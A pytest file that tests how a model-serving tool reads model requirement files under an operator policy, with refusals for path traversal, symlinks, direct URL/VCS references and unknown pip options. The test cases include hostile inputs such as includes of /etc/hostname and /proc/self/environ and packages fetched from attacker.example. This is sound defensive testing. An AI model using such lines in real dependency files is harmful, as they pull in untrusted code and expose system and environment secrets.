"""What a model version declares it needs, read under the operator's policy (serving/requirements.py),
and the server's dependency settings."""

from __future__ import annotations

from pathlib import Path

import pytest

from aliasroll.serving.config import ConfigError, ServingConfig
from aliasroll.serving.requirements import (
    Policy,
    RequirementsRefused,
    python_mismatch,
    read_environment,
)


@pytest.mark.parametrize(
    ("logged", "mismatch"),
    [
        pytest.param("3.11.2", False, id="same-minor-other-patch"),
        pytest.param(None, False, id="not-recorded"),
        pytest.param("3.10.14", True, id="other-minor"),
        pytest.param("3.12.0", True, id="newer-minor"),
    ],
)
def test_python_mismatch(logged: str | None, mismatch: bool) -> None:
    said = python_mismatch(logged, (3, 11))
    assert (said is not None) == mismatch
    if said:
        assert f"Python {logged}" in said
        assert "3.11" in said


def test_read_environment(tmp_path: Path) -> None:
    (tmp_path / "MLmodel").write_text(
        "flavors:\n  python_function:\n    env:\n      virtualenv: python_env.yaml\n"
        "    python_version: 3.11.7\n"
    )
    (tmp_path / "python_env.yaml").write_text(
        "python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n- -r requirements.txt\n"
    )
    (tmp_path / "requirements.txt").write_text(
        "mlflow==3.17.2\n# a comment\n--index-url https://elsewhere/simple\nscikit-learn==1.9.1  # pinned\n"
    )
    environment = read_environment(tmp_path)
    assert environment.python == "3.11.7"
    assert environment.requirements == ("mlflow==3.17.2", "scikit-learn==1.9.1")


HASH = "sha256:" + "0123456789abcdef" * 4

# (case, files of the model directory, the policy, the requirements read, or words of the refusal)
# Review 2026-12 finding 8: includes followed `..` and absolute paths, URL and VCS requirements went
# to uv, and unparsed lines were quoted into the termination message.
READS: list[tuple[str, dict[str, str], Policy, tuple[str, ...] | list[str]]] = [
    (
        "plain requirements, markers and extras, normalised",
        {"requirements.txt": 'scikit-learn == 1.9.1\nrequests[socks]>=2 ; python_version >= "3"\n'},
        Policy(),
        ("scikit-learn==1.9.1", 'requests[socks]>=2; python_version >= "3"'),
    ),
    (
        "an include inside the model directory",
        {"requirements.txt": "-r extra/more.txt\n", "extra/more.txt": "scipy==1.17.1\n"},
        Policy(),
        ("scipy==1.17.1",),
    ),
    (
        "review-8: an include that climbs out",
        {"requirements.txt": "-r ../outside.txt\nscipy==1.17.1\n"},
        Policy(),
        ["requirements.txt line 1 names a file outside the model directory"],
    ),
    (
        "review-8: an absolute include",
        {"requirements.txt": "-r /etc/hostname\n"},
        Policy(),
        ["requirements.txt line 1 names a file outside the model directory"],
    ),
    (
        "a constraints file outside",
        {"requirements.txt": "--constraint=/proc/self/environ\n"},
        Policy(),
        ["names a file outside the model directory"],
    ),
    (
        "an include of a file the model lacks",
        {"requirements.txt": "-r nope.txt\n"},
        Policy(),
        ["requirements.txt line 1 includes a file the model does not have"],
    ),
    (
        "review-8: a direct URL, refused by name",
        {"requirements.txt": "evil @ https://attacker.example/evil-1.0.tar.gz\n"},
        Policy(),
        ["evil: a direct reference", "ALIASROLL_DEPENDENCY_DIRECT_REFERENCES"],
    ),
    (
        "review-8: a VCS link, refused by name",
        {"requirements.txt": "tool @ git+https://attacker.example/tool.git\n"},
        Policy(),
        ["tool: a direct reference"],
    ),
    (
        "a bare URL or path, refused by where it is",
        {"requirements.txt": "scipy==1.17.1\n./code/my.whl\n"},
        Policy(),
        ["requirements.txt line 2: a direct reference"],
    ),
    (
        "direct references where the operator allows them (paths made absolute, inside only)",
        {"requirements.txt": "tool @ git+https://git.example/tool.git\n./code/my.whl\n", "code/my.whl": "x"},
        Policy(direct_references=True),
        ("tool @ git+https://git.example/tool.git", "{model}/code/my.whl"),
    ),
    (
        "an editable path is a direct reference",
        {"requirements.txt": "-e ./pkg\n"},
        Policy(),
        ["requirements.txt line 1: a direct reference"],
    ),
    (
        "a line that is no requirement is named by where it is, never quoted",
        {"requirements.txt": "this-is-a-secret-value-from-a-file !!\n"},
        Policy(),
        ["requirements.txt line 1 is not a requirement of the form name[extras] specifier ; marker"],
    ),
    (
        "index options are the cluster's: dropped",
        {"requirements.txt": "--index-url https://elsewhere/simple\n--extra-index-url=https://x/s\nscipy\n"},
        Policy(),
        ("scipy",),
    ),
    (
        "another pip option is refused",
        {"requirements.txt": "--global-option=--with-evil\n"},
        Policy(),
        ["requirements.txt line 1 is a pip option the server does not take"],
    ),
    (
        "hashes, across continued lines (pip-compile --generate-hashes)",
        {"requirements.txt": f"scipy==1.17.1 \\\n    --hash={HASH}\n"},
        Policy(),
        ("scipy==1.17.1",),
    ),
    (
        "an include cycle is read once",
        {"requirements.txt": "-r requirements.txt\nscipy\n"},
        Policy(),
        ("scipy",),
    ),
]


@pytest.mark.parametrize(("case", "files", "policy", "expected"), READS, ids=[r[0] for r in READS])
def test_requirement_files_are_read_under_the_operators_policy(
    tmp_path: Path, case: str, files: dict[str, str], policy: Policy, expected: tuple[str, ...] | list[str]
) -> None:
    model = tmp_path / "model"
    model.mkdir()
    (tmp_path / "outside.txt").write_text("this-line-came-from-outside-the-model-dir==1.0\n")
    for name, text in files.items():
        (model / name).parent.mkdir(parents=True, exist_ok=True)
        (model / name).write_text(text)
    if isinstance(expected, tuple):
        environment = read_environment(model, policy)
        wanted = tuple(line.replace("{model}", str(model.resolve())) for line in expected)
        assert environment.requirements == wanted, case
        return
    with pytest.raises(RequirementsRefused) as caught:
        read_environment(model, policy)
    message = str(caught.value)
    for words in expected:
        assert words in message, (case, message)
    for never in ("attacker.example", "outside-the-model-dir", "secret-value", "with-evil", "/etc/hostname"):
        assert never not in message, (case, message)


def test_hashes_are_kept_by_package(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(
        f"SciPy==1.17.1 --hash={HASH} --hash {HASH.replace('0', '1')}\n"
    )
    assert read_environment(tmp_path).hashes == {"scipy": (HASH, HASH.replace("0", "1"))}


def test_a_symbolic_link_out_of_the_model_is_outside(tmp_path: Path) -> None:
    model = tmp_path / "model"
    model.mkdir()
    (tmp_path / "secret.txt").write_text("leaked==1.0\n")
    (model / "more.txt").symlink_to(tmp_path / "secret.txt")
    (model / "requirements.txt").write_text("-r more.txt\n")
    with pytest.raises(RequirementsRefused, match="outside the model directory"):
        read_environment(model)


def test_the_environment_file_mlmodel_names_must_be_inside(tmp_path: Path) -> None:
    (tmp_path / "MLmodel").write_text(
        "flavors:\n  python_function:\n    env:\n      virtualenv: ../../env.yaml\n"
    )
    with pytest.raises(RequirementsRefused, match="MLmodel names a file outside the model directory"):
        read_environment(tmp_path)


def test_dependencies_setting() -> None:
    base = {"MODEL_URI": "models:/m/1", "SCRATCH_DIR": "/s"}
    config = ServingConfig.from_env(base)
    assert (config.dependencies, config.dependency_cache) == ("install", Path("/s/dependencies"))
    assert (config.dependency_cache_max_bytes, config.direct_references, config.source_builds) == (
        None,
        False,
        False,
    )
    config = ServingConfig.from_env(
        {
            **base,
            "ALIASROLL_DEPENDENCY_CACHE_MAX_BYTES": "1024",
            "ALIASROLL_DIRECT_REFERENCES": "on",
            "ALIASROLL_SOURCE_BUILDS": "on",
        }
    )
    assert (config.dependency_cache_max_bytes, config.direct_references, config.source_builds) == (
        1024,
        True,
        True,
    )
    config = ServingConfig.from_env(
        {**base, "ALIASROLL_DEPENDENCIES": "image", "ALIASROLL_DEPENDENCY_CACHE": "/c"}
    )
    assert (config.dependencies, config.dependency_cache) == ("image", Path("/c"))
    with pytest.raises(ConfigError, match="ALIASROLL_DEPENDENCIES='pip': use install"):
        ServingConfig.from_env({**base, "ALIASROLL_DEPENDENCIES": "pip"})
